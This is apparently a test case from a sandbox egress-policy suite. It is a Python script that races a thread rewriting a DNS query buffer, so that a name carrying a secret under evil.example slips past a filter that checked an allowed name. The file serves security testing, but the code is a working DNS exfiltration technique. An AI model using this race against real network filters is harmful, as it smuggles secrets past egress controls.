# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: during a send, another thread overwrites the question with a name that carries data
# proof: query
# needs: resolver
# unreported: a policy that only reports sends the bytes that are there at that moment
import socket
import threading
import time

from attack import RESOLVER, SECRET, attempt, patience


def labels(*names):
    return b"".join(bytes([len(name)]) + name.encode() for name in names) + b"\0"


def question(*names, records=0):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0" + bytes([records]) + labels(*names) + b"\0\x01\0\x01"


@attempt
def ask():
    # Both have the same length: any label passes below wide.example.
    bad = question(SECRET, "evil", "example")
    good = question("a" * len(SECRET), "wide", "example")
    packet = bytearray(good)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setblocking(False)
    out.connect((RESOLVER, 53))
    end = time.monotonic() + patience(3)

    def rewrite():
        turn = 0
        while time.monotonic() < end:
            # One write a turn: Python changes threads between turns.
            packet[12:] = (bad, good)[turn][12:]
            turn = 1 - turn

    thread = threading.Thread(target=rewrite)
    thread.start()
    reached = False
    while time.monotonic() < end and not reached:
        try:
            out.send(packet)
        except OSError:
            pass
        try:
            reached = SECRET.encode() in out.recv(512)
        except OSError:
            pass
    end = 0
    thread.join()
    return reached
